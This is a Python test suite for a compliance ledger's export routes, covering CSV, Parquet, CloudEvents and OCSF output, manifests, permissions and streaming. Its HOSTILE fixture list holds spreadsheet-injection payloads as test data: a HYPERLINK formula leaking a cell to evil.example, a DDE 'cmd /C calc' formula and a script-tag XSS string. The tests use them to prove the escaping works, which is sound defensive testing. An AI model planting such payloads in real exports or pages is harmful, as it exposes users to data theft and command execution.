"""Lists that leave the ledger as files: others' programs read them, and find what the API shows."""

from __future__ import annotations

import csv
import hashlib
import importlib.util
import io
import json
import shutil
import sqlite3
import subprocess
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import duckdb
import httpx
import pytest
from cloudevents.core.formats.json import JSONFormat
from jsonschema import Draft202012Validator
from ocsf_json_schema import OcsfJsonSchemaEmbedded, get_ocsf_schema

from ledger.application import SYSTEM_AUTHOR
from ledger.domain.errors import InvalidValue, TamperDetected
from ledger.service.exports import FORMATS, VIEWS, export, formats_of
from ledger.service.exports.csv_table import FORMULA_STARTS, MARK, escaped, unescaped
from ledger.service.exports.export import stream_export
from ledger.service.exports.ocsf import ACTIVITIES
from ledger.service.exports.parquet import GROUP_ROWS_MAX
from ledger.service.exports.parquet import write as write_parquet
from ledger.service.http.exports import ManifestAnswer
from ledger.service.http.shapes import TimeTravel
from ledger.tlog.note import parse_note
from tests.conftest import on_each_store
from tests.service.conftest import (
    Running,
    found,
    founded_on,
    suspension_of,
    violation_of,
)

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

ROOT = Path(__file__).resolve().parents[2]
NOW_TRAVEL = TimeTravel(None, None, None)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",  # noqa: RUF001 - wide on purpose
    "'=1+1",
    'a,b;c"d',
    "<script>alert(1)</script>",
    "Zoë 😀 ﷽",
]
# A reason or a summary may hold what an id may not.
HOSTILE_TEXTS = [*HOSTILE, "\t=1+1", "=1+1\r\n=2+2", "\n=1+1"]


def fill(run: Running) -> Running:
    """Record something of every kind that is exported, about subjects with hostile names."""
    found(run)
    for number, id_ in enumerate(HOSTILE):
        subject = f"user:{id_}"
        violation = violation_of(run, subject, summary=HOSTILE_TEXTS[number])
        suspension = suspension_of(run, subject, grounds=[violation], reason=HOSTILE_TEXTS[number])
        body: dict[str, Any] = {"suspension": suspension, "cause": "early", "reason": id_}
        if number % 2:
            run.done("POST", "/v1/reinstatements", role="officer", json=body)
        body = {"subject": {"type": "user", "id": id_}, "reason": HOSTILE_TEXTS[-1 - number]}
        run.done("POST", "/v1/warnings", role="officer", json={**body, "grounds": [violation]})
    evidence = [{"uri": "s3://e/1", "sha256": "0" * 64, "personal": True}]
    wrong = violation_of(run, "user:wrong", details="A secret.", evidence=evidence)
    path = f"/v1/violations/{wrong}/overturn"
    run.done("POST", path, role="approver", json={"reason": "=A mistake."})
    run.clock.move(seconds=1)
    return run


@pytest.fixture(scope="module")
def filled(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Running]:
    """A service whose ledger the tests of this module read, and add exports to."""
    with founded_on("sqlite", request, tmp_path_factory.mktemp("filled")) as run:
        yield fill(run)


def exported(run: Running, view: str, format: str, **asked: Any) -> httpx.Response:
    """Export a list."""
    path = f"/v1/{view}/export"
    response = run("GET", path, role="auditor", params={"format": format, **asked})
    assert 200 == response.status_code, response.text
    return response


def listed(run: Running, view: str, **asked: Any) -> list[dict[str, Any]]:
    """Return every item of a list."""
    params: dict[str, Any] = {"limit": 1000, **asked}
    body = run.done("GET", f"/v1/{view}", role="auditor", params=params)
    assert body["next"] is None
    items: list[dict[str, Any]] = body["items"]
    return items


def asked_of_duckdb(question: str) -> list[Any]:
    """Return the rows of DuckDB's answer."""
    answer = duckdb.sql(question)
    assert answer is not None
    return answer.fetchall()


def rows_of(response: httpx.Response) -> list[dict[str, Any]]:
    """Return the lines of NDJSON."""
    assert not response.content or response.content.endswith(b"\n")
    return [json.loads(line) for line in response.content.split(b"\n")[:-1]]


def position_of(response: httpx.Response) -> str:
    """Return the position of an export."""
    return response.headers["ledger-position"]


# --- what is in it --------------------------------------------------------------------------------

FILTERED: list[tuple[str, dict[str, Any]]] = [
    ("events", {}),
    ("events", {"order": "oldest"}),
    ("events", {"subject": f"user:{HOSTILE[0]}"}),
    ("events", {"type": ["subject.suspended", "warning.issued"], "policy": "aup"}),
    ("events", {"q": "secret OR evil*"}),
    ("events", {"known_position": 12}),
    ("suspensions", {"state": "in_force"}),
    ("suspensions", {"model": "atlas-3", "order": "oldest"}),
    ("violations", {"state": "overturned"}),
    ("violations", {"detected_by": "human"}),
    ("reinstatements", {"cause": "early"}),
    ("warnings", {"policy": "aup@1"}),
    ("warnings", {"subject": "user:nobody"}),
]


@pytest.mark.parametrize(("view", "asked"), FILTERED)
def test_an_export_holds_what_the_list_with_its_parameters_holds(
    view: str, asked: dict[str, Any], filled: Running
) -> None:
    """The same filters, order and times; every item as the list shows it."""
    response = exported(filled, view, "ndjson", **asked)
    known = {"known_position": position_of(response)}

    assert listed(filled, view, **{**asked, **known}) == rows_of(response)
    assert "application/x-ndjson" == response.headers["content-type"]
    assert "no-store" == response.headers["cache-control"]
    assert "nosniff" == response.headers["x-content-type-options"]
    name = f"{view}-{position_of(response)}.ndjson"
    assert f'attachment; filename="{name}"' == response.headers["content-disposition"]


@pytest.mark.parametrize("view", VIEWS)
def test_the_columns_of_a_list_are_its_members(view: str, filled: Running) -> None:
    """A table has every member that the API shows, in its order, and no other."""
    (row, *_) = rows_of(exported(filled, view, "ndjson"))

    assert list(row) == [column.name for column in VIEWS[view].columns]


def test_an_export_is_read_in_pages(filled: Running, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever the size of the pages and their parts, every item is there once, in order."""
    whole = [exported(filled, view, "ndjson", known_position=40).content for view in VIEWS]
    for rows, part in ((1, 1), (7, 3), (3, 7), (6, 3)):
        monkeypatch.setattr(export, "PAGE_ROWS_MAX", rows)
        monkeypatch.setattr(export, "PART_ROWS_MAX", part)
        small = [exported(filled, view, "ndjson", known_position=40).content for view in VIEWS]
        assert whole == small


@pytest.mark.parametrize("format", FORMATS)
def test_an_empty_list_makes_a_whole_file(format: str, filled: Running, tmp_path: Path) -> None:
    """Nothing is exported as a file of the form with nothing in it."""
    content = exported(filled, "events", format, known_position=0).content

    if format == "parquet":
        (tmp_path / "none.parquet").write_bytes(content)
        assert [] == asked_of_duckdb(f"FROM '{tmp_path}/none.parquet'")
    elif format == "cloudevents":
        assert [] == json.loads(content)
    elif format == "csv":
        assert 1 == len(list(csv.reader(io.StringIO(content.decode()))))
    else:
        assert b"" == content


@on_each_store
def test_every_export_can_be_made_on_each_store(running: Running) -> None:
    """Lists and forms are those of the ledger, not of a database."""
    fill(running)
    for view in VIEWS.values():
        items = listed(running, view.name)
        assert items == rows_of(exported(running, view.name, "ndjson"))
        for format in formats_of(view):
            assert exported(running, view.name, format).content
    running.checked = False  # it is in the test on SQLite, and costs seconds


# --- others read it -------------------------------------------------------------------------------


def as_cell(value: Any, kind: str) -> str:
    """What a cell says of a value of a list's item."""
    if value is None:
        return ""
    if kind == "subject":
        return f"{value['type']}:{value['id']}"
    if kind == "json":
        return json.dumps(value, sort_keys=True)
    return str(value).lower() if kind == "truth" else str(value)


def unescaped_cell(cell: str, kind: str) -> str:
    """A cell as it is read, in a form that can be compared."""
    text = unescaped(cell)
    return json.dumps(json.loads(text), sort_keys=True) if kind == "json" and text else text


@pytest.mark.parametrize("view", VIEWS)
def test_hostile_cells_come_back_from_csv(view: str, filled: Running) -> None:
    """Python's reader finds every text as it was recorded, once one apostrophe is taken away."""
    response = exported(filled, view, "csv")
    head, *rows = csv.reader(io.StringIO(response.content.decode(), newline=""))
    columns = VIEWS[view].columns
    items = listed(filled, view, known_position=position_of(response))

    assert [column.name for column in columns] == head
    assert [[as_cell(item[c.name], c.kind) for c in columns] for item in items] == [
        [unescaped_cell(cell, c.kind) for c, cell in zip(columns, row, strict=True)] for row in rows
    ]
    assert "formula-apostrophe" == response.headers["x-export-escaping"]
    assert "text/csv; charset=utf-8; header=present" == response.headers["content-type"]
    assert response.content.endswith(b"\r\n")


@pytest.mark.parametrize("view", VIEWS)
def test_no_cell_begins_as_a_formula_does(view: str, filled: Running) -> None:
    """Not even one that a text with line ends would begin in a careless reader."""
    rows = csv.reader(io.StringIO(exported(filled, view, "csv").text, newline=""))

    assert [] == [cell for row in rows for cell in row if cell[:1] in FORMULA_STARTS]


@pytest.mark.parametrize("text", [*HOSTILE_TEXTS, "", "\0", "\r", "-", "''", "plain", MARK])
def test_an_escaped_text_comes_back_and_is_no_formula(text: str) -> None:
    """One apostrophe is put before what may begin a formula, and before an apostrophe."""
    assert text == unescaped(escaped(text))
    assert escaped(text)[:1] not in FORMULA_STARTS
    assert escaped("plain") == "plain"


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice (soffice) is not installed")
def test_libreoffice_finds_no_formula(filled: Running, tmp_path: Path) -> None:
    """Imported as a spreadsheet, with comma or semicolon, nothing in it is computed."""
    paths = []
    for view in VIEWS:
        path = tmp_path / f"{view}.csv"
        path.write_bytes(exported(filled, view, "csv").content)
        paths.append(str(path))
    # What it takes for a formula when nothing is escaped, to know that it would.
    control = tmp_path / "control.csv"
    control.write_text('"=1+1",=2+2\r\n')
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    convert = ["soffice", "--headless", profile, "--convert-to", "fods", "--outdir", str(tmp_path)]
    subprocess.run(
        [*convert, *paths, str(control)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    formulas = {
        path.stem: sum(
            name.endswith("}formula")
            for element in ET.parse(path).iter()  # noqa: S314 - LibreOffice wrote it just now
            for name in element.attrib
        )
        for path in tmp_path.glob("*.fods")
    }

    assert {**dict.fromkeys(VIEWS, 0), "control": 2} == formulas


@pytest.mark.parametrize("view", VIEWS)
def test_parquet_opens_in_duckdb_with_the_rows_of_the_list(
    view: str, filled: Running, tmp_path: Path
) -> None:
    """Its rows are the items; instants are instants, and what is nested is JSON."""
    response = exported(filled, view, "parquet")
    path = tmp_path / "view.parquet"
    path.write_bytes(response.content)
    columns = VIEWS[view].columns
    shown = ", ".join(
        f"strftime({c.name} AT TIME ZONE 'UTC', '%Y-%m-%dT%H:%M:%S.%fZ')"
        if c.kind == "instant"
        else f'"{c.name}"'
        for c in columns
    )
    rows = asked_of_duckdb(f"SELECT {shown} FROM read_parquet('{path}')")
    items = listed(filled, view, known_position=position_of(response))

    assert [
        {c.name: json.loads(v) if c.kind == "json" and v else v for c, v in zip(columns, row)}  # noqa: B905 - compared
        for row in rows
    ] == [
        {
            c.name: as_cell(item[c.name], c.kind) if c.kind == "subject" else item[c.name]
            for c in columns
        }
        for item in items
    ]


def test_a_question_to_duckdb_is_answered(filled: Running, tmp_path: Path) -> None:
    """Times compare as times, and members of the data are at hand."""
    path = tmp_path / "events.parquet"
    path.write_bytes(exported(filled, "events", "parquet").content)

    asked = (
        "SELECT count(*), max(recorded_at) > '2020-01-01', any_value(data->>'$.policy') "
        f"FROM '{path}' WHERE type = 'violation.recorded'"
    )
    assert [(len(HOSTILE) + 1, True, "aup@1")] == asked_of_duckdb(asked)


def test_groups_of_rows_in_parquet_have_a_fixed_size(tmp_path: Path) -> None:
    """The bytes do not depend on the pages in which rows were read."""
    row = {"id": "w", "position": 1, "subject": {"type": "user", "id": "a"}, "grounds": []}
    row |= {"clauses": [], "reason": "r", "operator": "o", "recorded_at": "2026-01-01T00:00:00Z"}
    rows = [row] * (GROUP_ROWS_MAX + 1)
    view = VIEWS["warnings"]

    whole = b"".join(write_parquet(view, [rows], ""))
    assert whole == b"".join(write_parquet(view, [rows[:3], rows[3:]], ""))
    (tmp_path / "two.parquet").write_bytes(whole)
    asked = "SELECT DISTINCT row_group_num_rows FROM parquet_metadata"
    sizes = asked_of_duckdb(f"{asked}('{tmp_path}/two.parquet') ORDER BY 1")
    assert [(1,), (GROUP_ROWS_MAX,)] == sizes


def test_the_official_package_reads_the_cloudevents(filled: Running) -> None:
    """Each is a valid CloudEvent 1.0 whose data is the event; its id is unique in its source."""
    response = exported(filled, "events", "cloudevents", order="oldest")
    items = listed(filled, "events", order="oldest", known_position=position_of(response))
    # The package reads one event at a time; a batch is an array of them.
    found = [JSONFormat().read(None, json.dumps(each)) for each in json.loads(response.content)]

    assert "application/cloudevents-batch+json" == response.headers["content-type"]
    assert items == [each.get_data() for each in found]
    assert [(str(item["position"]), item["recorded_at"]) for item in items] == [
        (each.get_id(), each.get_time().strftime("%Y-%m-%dT%H:%M:%S.%fZ"))  # type: ignore[union-attr]
        for each in found
    ]
    assert {"urn:compliance-ledger:log:test.ledger"} == {each.get_source() for each in found}
    about = [each for each in found if each.get_type() == "compliance-ledger.warning.issued.v1"]
    assert [f"user:{id_}" for id_ in HOSTILE] == [each.get_subject() for each in about]
    sequences = [each.get_extension("sequence") for each in found]
    assert sequences == sorted(sequences)


def test_events_of_ocsf_are_valid(filled: Running) -> None:
    """Every event is one of class 3004 or 2003 of OCSF 1.8, and none is left out."""
    response = exported(filled, "events", "ocsf", order="oldest")
    items = listed(filled, "events", order="oldest", known_position=position_of(response))
    found = rows_of(response)
    schemas = OcsfJsonSchemaEmbedded(get_ocsf_schema(version="1.8.0"))
    validators = {
        uid: Draft202012Validator(
            schemas.get_class_schema(class_name=schemas.lookup_class_name_from_uid(class_uid=uid))
        )
        for uid in (3004, 2003)
    }

    assert items == [each["unmapped"] for each in found]
    for each in found:
        errors = [error.message for error in validators[each["class_uid"]].iter_errors(each)]
        assert [] == errors, each
    by_type = {each["metadata"]["event_code"]: each for each in found}
    assert {
        "subject.suspended": 300412,
        "subject.reinstated": 300413,
        "violation.recorded": 200301,
        "violation.overturned": 200303,
        "warning.issued": 300499,
        "policy.published": 300401,
    }.items() <= {type_: each["type_uid"] for type_, each in by_type.items()}.items()
    assert 4 == by_type["violation.recorded"]["severity_id"]


# --- what is recorded, and what a file can be checked with ----------------------------------------


def disclosures(run: Running) -> list[dict[str, Any]]:
    """Return the exports that were recorded, newest first."""
    found = listed(run, "events", type="record.disclosed")
    return [each for each in found if each["data"]["export"]]


def test_an_export_is_recorded_with_who_and_what(filled: Running) -> None:
    """Before the first byte: the list, the form, the filters, the position, and for whom."""
    subject = f"user:{HOSTILE[1]}"
    response = filled(
        "GET",
        "/v1/events/export",
        role="auditor",
        params={"format": "csv", "subject": subject, "type": ["warning.issued"], "order": "oldest"},
        headers={"Ledger-On-Behalf-Of": "user:jane", "X-Request-ID": "the-request"},
    )
    recorded = disclosures(filled)[0]

    position = int(position_of(response))
    assert position + 1 == recorded["position"]
    assert ("the-auditor", "user:jane") == (recorded["operator"], recorded["on_behalf_of"])
    assert "the-request" == recorded["request_id"]
    assert {
        "view": "events",
        "format": "csv",
        "filters": [["subject", subject], ["type", "warning.issued"]],
        "position": position,
    } == recorded["data"]["export"]
    assert {"type": "user", "id": HOSTILE[1]} == recorded["data"]["subject"]
    assert recorded["position"] == listed(filled, "events", subject=subject)[0]["position"]


def manifest_of(run: Running, response: httpx.Response) -> dict[str, Any]:
    """Return the manifest that an export's header Link names."""
    return run.done("GET", response.links["describedby"]["url"], role="auditor")


@pytest.mark.parametrize("format", FORMATS)
def test_a_manifest_says_what_the_file_is(format: str, filled: Running) -> None:
    """It is made later, from the same position: the hash, the size and the count are the file's."""
    response = exported(filled, "events", format, subject=f"user:{HOSTILE[2]}", order="oldest")
    violation_of(filled, f"user:{HOSTILE[2]}")  # meanwhile the record goes on
    found = manifest_of(filled, response)
    items = listed(
        filled,
        "events",
        subject=f"user:{HOSTILE[2]}",
        known_position=position_of(response),
    )

    assert hashlib.sha256(response.content).hexdigest() == found["sha256"]
    assert len(response.content) == found["bytes"]
    assert len(items) == found["count"]
    assert int(position_of(response)) == found["position"]
    assert {"subject": [f"user:{HOSTILE[2]}"]} == found["filters"]
    assert ("test.ledger", "events", format) == (
        found["origin"],
        found["view"],
        found["format"],
    )
    assert "oldest" == found["order"]
    assert found["at"] is None
    assert (
        found["checkpoint"] is None
        or "test.ledger" in parse_note(found["checkpoint"].encode()).text
    )
    assert "the-auditor" == found["operator"]


def test_a_manifest_keeps_the_instant_that_states_are_of(filled: Running) -> None:
    """A suspension that ends meanwhile is still in force in an export of before."""
    response = exported(filled, "suspensions", "csv", state="in_force")
    filled.clock.move(days=100)
    try:
        found = manifest_of(filled, response)
    finally:
        filled.clock.move(days=-100)

    assert found["at"] is not None
    assert hashlib.sha256(response.content).hexdigest() == found["sha256"]


def test_an_erasure_changes_no_export_of_before(filled: Running) -> None:
    """What was a box at the position of an export stays one in it, though nobody can open it."""
    violation_of(filled, "user:erased", details="A secret.")
    asked = {"subject": "user:erased", "type": "violation.recorded"}
    before = exported(filled, "events", "ndjson", **asked)
    body = {"subject": {"type": "user", "id": "erased"}, "reason": "Asked for."}
    erasure = filled.done("POST", "/v1/erasures", role="admin", json=body)["id"]
    filled.done("POST", f"/v1/erasures/{erasure}/confirmation", role="approver")
    after = exported(filled, "events", "ndjson", **asked)

    assert "box" in rows_of(before)[0]["data"]["details"]
    assert rows_of(after)[0]["data"]["details"]["erased"] is True
    assert hashlib.sha256(before.content).hexdigest() == manifest_of(filled, before)["sha256"]
    assert hashlib.sha256(after.content).hexdigest() == manifest_of(filled, after)["sha256"]


# --- who may, and what is refused -----------------------------------------------------------------


@pytest.mark.parametrize("view", VIEWS.values(), ids=VIEWS)
@pytest.mark.parametrize("suffix", ["", "/manifest"])
def test_who_may_read_a_list_may_export_it(view: Any, suffix: str, filled: Running) -> None:
    """And nobody else."""
    for role in filled.keys:
        response = filled(
            "GET",
            f"/v1/{view.name}/export{suffix}",
            role=role,
            params={"format": "csv", "known_position": 1},
        )
        assert (200 if role in view.roles else 403) == response.status_code
    assert 401 == filled("GET", f"/v1/{view.name}/export{suffix}").status_code


@pytest.mark.parametrize(
    ("view", "asked", "code", "field"),
    [
        ("events", {}, "invalid_request", "format"),
        ("events", {"format": "xlsx"}, "invalid_request", "format"),
        ("warnings", {"format": "ocsf"}, "invalid_request", "format"),
        ("events", {"format": "csv", "limit": 3}, "invalid_request", "limit"),
        ("events", {"format": "csv", "q": " ".join(map(str, range(51)))}, "invalid_value", "q"),
        ("events", {"format": "csv", "subject": "alice"}, "invalid_value", "subject"),
    ],
)
def test_what_cannot_be_exported_is_refused_and_not_recorded(
    view: str, asked: dict[str, Any], code: str, field: str, filled: Running
) -> None:
    """A problem names the parameter, and nobody is said to have been given anything."""
    before = len(disclosures(filled))
    response = filled("GET", f"/v1/{view}/export", role="auditor", params=asked)

    assert (422, code, field) == (
        response.status_code,
        response.json()["code"],
        response.json()["field"],
    )
    assert before == len(disclosures(filled))


def test_without_pyarrow_parquet_is_refused(
    filled: Running, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The problem says what to install."""
    find = importlib.util.find_spec
    monkeypatch.setattr(
        importlib.util, "find_spec", lambda name: None if name == "pyarrow" else find(name)
    )
    response = filled("GET", "/v1/events/export", role="auditor", params={"format": "parquet"})

    assert (422, "format") == (response.status_code, response.json()["field"])
    assert "compliance-ledger[parquet]" in response.json()["detail"]


# --- streams --------------------------------------------------------------------------------------


def test_a_fault_midway_breaks_the_connection(
    filled: Running, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A client is told that the answer is not whole; it never ends as if it were."""
    monkeypatch.setattr(export, "PAGE_ROWS_MAX", 5)
    read = export.pages

    def failing(*asked: Any) -> Iterator[Any]:
        yield next(read(*asked))
        raise TamperDetected("the second page cannot be read")

    monkeypatch.setattr(export, "pages", failing)
    for format in FORMATS:
        with pytest.raises(httpx.RemoteProtocolError):
            exported(filled, "events", format)


def test_between_pages_no_transaction_is_open(
    filled: Running, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A slow reader keeps nobody from writing, nor the write-ahead log from starting over."""
    monkeypatch.setattr(export, "PAGE_ROWS_MAX", 5)
    service = filled.service
    fixed, parts = stream_export(
        service, VIEWS["events"], FORMATS["ndjson"], filters={}, travel=NOW_TRAVEL, by=SYSTEM_AUTHOR
    )
    first = next(parts)
    violation_of(filled, "user:meanwhile")
    with closing(sqlite3.connect(service.settings.database_path or "")) as other:
        (busy, *_) = other.execute("PRAGMA wal_checkpoint(TRUNCATE)").fetchone()
    rest = b"".join(parts)

    shown = [json.loads(line)["position"] for line in (first + rest).splitlines()]
    assert list(range(fixed.position, 0, -1)) == shown
    assert 0 == busy


def test_a_list_is_not_exported_in_a_form_it_does_not_have(filled: Running) -> None:
    """Whoever calls the function is told, as the route's callers are."""
    with pytest.raises(InvalidValue, match="cannot be exported as ocsf"):
        stream_export(
            filled.service,
            VIEWS["warnings"],
            FORMATS["ocsf"],
            filters={},
            travel=NOW_TRAVEL,
            by=SYSTEM_AUTHOR,
        )


# --- the page about it ----------------------------------------------------------------------------


def test_the_page_about_exports_names_every_list_and_format() -> None:
    """Its tables are those that routes and command go by, and so are its OCSF activities."""
    page = (ROOT / "docs/reference/exports.md").read_text(encoding="utf-8")

    for view in VIEWS.values():
        names = ", ".join(f"`{name}`" for name in formats_of(view))
        assert f"| `{view.name}` | {names} |" in page
    for each in FORMATS.values():
        assert f"| `{each.name}` | `{each.media_type}` | {each.what} |" in page
    for type_, (uid, name) in ACTIVITIES.items():
        (row,) = [line for line in page.splitlines() if f"`{type_}`" in line and "3004" in line]
        assert f"| {uid} {name} |" in row
    for member in ManifestAnswer.model_fields:
        assert f"`{member}`" in page
